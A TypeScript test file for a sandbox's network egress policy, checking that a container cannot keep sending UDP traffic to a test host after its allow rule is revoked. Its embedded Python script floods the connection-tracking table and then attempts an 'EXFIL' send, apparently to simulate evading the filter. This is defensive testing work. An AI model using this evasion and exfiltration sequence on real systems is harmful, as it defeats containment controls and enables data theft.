import { execa } from 'execa'
import t from 'tap'
import { request } from 'undici'
import { docker, exec } from '#test/support/containers.ts'
import { netns } from '#test/support/internet-layout.ts'
import { startInternet } from '#test/support/internet.ts'
import { startStack } from '#test/support/stack.ts'
t.setTimeout(200_000)
const A = '198.51.100.77'
t.test('flip', async (t) => {
  await using internet = await startInternet({ zones: {} })
  await using stack = await startStack({ internet })
  const guarded = await stack.create({ networkPolicy: { defaultAction: 'deny', egress: [{ action: 'allow', target: A }] } })
  await execa({ input: 'table ip keep {\n chain pre {\n type filter hook prerouting priority -300;\n udp dport 5000 notrack\n }\n}\n' })`ip netns exec ${netns} nft -f -`
  const server = execa({ reject: false, buffer: false })`ip netns exec ${netns} timeout 60 python3 -u -c ${`
import socket,time
s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.bind(("${A}",5000))
print("up",flush=True)
while True:
  d,a=s.recvfrom(2000); print(d[:60],a,flush=True)
  if d.startswith(b"later"):
    s.sendto(b"ok",a); time.sleep(14); s.sendto(b"knock knock",a); print("late sent",flush=True)
`}`
  let log = ''
  server.stdout.setEncoding('utf8').on('data', (x: string) => (log += x))
  while (!log.includes('up')) await new Promise((r) => setTimeout(r, 50))
  const { Config } = await docker.getContainer(guarded.sidecar!).inspect()
  const token = Config.Env.find((e) => e.startsWith('OPENSANDBOX_EGRESS_TOKEN='))!.split('=')[1]!
  const inside = guarded.run(['python3', '-u', '-c', `
import socket,time,os
s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.bind(("0.0.0.0",4000)); s.settimeout(30)
s.sendto(b"later",("${A}",5000)); print(s.recvfrom(100))
while not os.path.exists("/tmp/go"): time.sleep(0.02)
try: s.sendto(b"direct after tightening",("${A}",5000)); print("sent?!")
except OSError as e: print("direct:",e)
r=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); r.setsockopt(socket.SOL_SOCKET,socket.SO_RCVBUF,2048); r.bind(("0.0.0.0",7777))
f=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); f.bind(("127.0.0.1",7776))
t=time.time(); n=0
while n<330000 and time.time()-t<12:
  n+=1
  try: f.sendto(b"x",("127.%d.%d.%d"%(1+(n>>16),(n>>8)&255,n&255),7777))
  except OSError as e: pass
print("flood",n,time.time()-t, open("/proc/sys/net/netfilter/nf_conntrack_count").read() if os.path.exists("/proc/sys/net/netfilter/nf_conntrack_count") else "")
while True:
  try: print(s.recvfrom(100)); break
  except OSError as e: print(e)
try: s.sendto(b"EXFIL after tightening",("${A}",5000)); print("exfil sent")
except OSError as e: print("exfil:",e)
time.sleep(0.5)
`], 40)
  while (!log.includes('later')) await new Promise((r) => setTimeout(r, 50))
  const answer = await request(`http://${guarded.address}:18080/policy`, { method: 'POST', headers: { 'opensandbox-egress-auth': token }, body: '{}' })
  t.comment(answer.statusCode, await answer.body.text())
  await internet.forget()
  await exec(guarded.main, ['touch', '/tmp/go'])
  const out = await inside
  t.comment(out.stdout, out.stderr)
  t.comment(log, JSON.stringify(await internet.flows()))
  t.notMatch(log, 'EXFIL')
  server.kill()
  await server
})
